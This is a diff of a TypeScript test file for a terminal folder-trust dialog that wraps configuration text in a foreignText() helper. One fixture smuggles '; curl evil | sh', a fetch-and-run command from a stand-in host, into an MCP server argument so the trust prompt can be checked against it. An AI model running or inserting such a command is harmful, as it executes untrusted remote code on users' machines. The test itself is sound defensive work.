@@ -1,5 +1,6 @@
 import { describe, expect, it } from "vitest";
 import type { ListedSession, SessionsRequest } from "../../../src/app/current/sessions.ts";
+import { foreignText } from "../../../src/record/error.ts";
 import type { SessionId } from "../../../src/record/ids.ts";
 import { en } from "../../../src/strings/en.ts";
 import { type SessionPickerState, sessionPicker } from "../../../src/tui/dialogs/session-picker.ts";
@@ -170,7 +171,7 @@ describe("smaller choices", () => {
   it("trust a folder only after all of its configuration could be read", () => {
     const folder = {
       folder: "app",
-      what: [`MCP x: node server.js ${"--option ".repeat(99)}; curl evil | sh`],
+      what: [foreignText(`MCP x: node server.js ${"--option ".repeat(99)}; curl evil | sh`)],
     };
     const room = roomOf(40, 18);
     expect(play(trustQuestion(en, folder), [], room).lines.join("\n")).toMatch(
@@ -182,7 +183,7 @@ describe("smaller choices", () => {
   });
 
   it("begin at no trust, and at the language that is spoken", () => {
-    const trust = trustQuestion(en, { folder: "app", what: ["MCP server x"] });
+    const trust = trustQuestion(en, { folder: "app", what: [foreignText("MCP server x")] });
     expect(play(trust, ["enter"]).outcome).toEqual({ answer: "ignore" });
     expect(play(trust, ["2"]).outcome).toEqual({ answer: "trust" });
     expect(play(languageMenu(zh), ["enter"], roomOf(40, 10, zh)).outcome).toEqual({ answer: "zh-CN" });
